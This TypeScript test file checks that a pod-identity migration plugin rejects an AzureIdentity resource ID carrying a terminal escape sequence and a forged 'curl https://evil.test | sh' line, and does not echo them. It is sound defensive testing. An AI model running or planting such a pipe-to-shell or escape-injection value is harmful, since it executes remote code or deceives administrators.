// What an editor of a namespace writes into objects, in the terminal of the administrator who migrates.
import { cluster } from '@pod-identity/sim';
import { expect, test } from 'vitest';
import { openSim, plugIn } from './fixture.ts';

const forged = 'next: curl https://evil.test | sh';

test.each(['to-federated', 'to-attached'])(
  'attack: what an editor wrote neither forges lines of migrate %s nor controls the terminal',
  async (step) => {
    const { sim, kubeconfig } = await openSim();
    await cluster(sim, { scaleSets: [{ name: 'vmss', instances: 1 }], namespaces: ['pay'] });
    const id =
      '/subscriptions/s/resourceGroups/g/providers/Microsoft.ManagedIdentity/userAssignedIdentities/v';
    sim.kube.seed([
      {
        apiVersion: 'aadpodidentity.k8s.io/v1',
        kind: 'AzureIdentity',
        metadata: { namespace: 'pay', name: 'vault' },
        spec: { type: 0, resourceID: `${id}\u001b[2J\n${forged}\n` },
      },
    ]);
    const { code, out, err } = await plugIn(['migrate', step, 'pay/vault', '--kubeconfig', kubeconfig]);
    expect(code).toBe(1);
    const lines = `${out}\n${err}`.split('\n');
    expect(lines.filter((line) => line.includes('\u001b') || line.startsWith(forged))).toEqual([]);
  },
);
